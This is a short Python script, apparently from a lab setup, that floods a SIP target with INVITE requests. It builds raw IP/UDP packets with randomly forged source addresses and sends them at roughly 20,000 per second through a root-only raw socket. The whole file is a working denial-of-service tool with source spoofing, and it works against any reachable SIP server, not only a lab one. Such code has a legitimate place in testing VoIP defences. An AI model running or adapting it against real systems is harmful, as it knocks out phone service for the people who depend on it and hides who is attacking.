# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends INVITEs by UDP whose sources are made up: flood.py TARGET USER COUNT. Needs root; runs in the
namespace of the attacker."""

import random
import socket
import struct
import sys
import time

BATCH, PAUSE = 100, 0.005   # about 20,000 a second


def datagram(target, user, number):
    # None of the lab's own networks.
    source = f"{random.randrange(20, 90)}.{random.randrange(256)}.{random.randrange(256)}." \
             f"{random.randrange(1, 255)}"
    body = (f"INVITE sip:{user}@{target} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bKflood{number}\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:x{number}@{source}>;tag=f{number}\r\n"
            f"To: <sip:{user}@{target}>\r\nCall-ID: flood{number}\r\nCSeq: 1 INVITE\r\n"
            f"Contact: <sip:x{number}@{source}>\r\nContent-Length: 0\r\n\r\n").encode()
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(body), 0) + body
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number & 0xffff, 0, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(target))
    return header + udp


def main(target, user, count):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(int(count)):
        raw.sendto(datagram(target, user, number), (target, 0))
        if number % BATCH == 0:
            time.sleep(PAUSE)


if __name__ == "__main__":
    main(*sys.argv[1:])
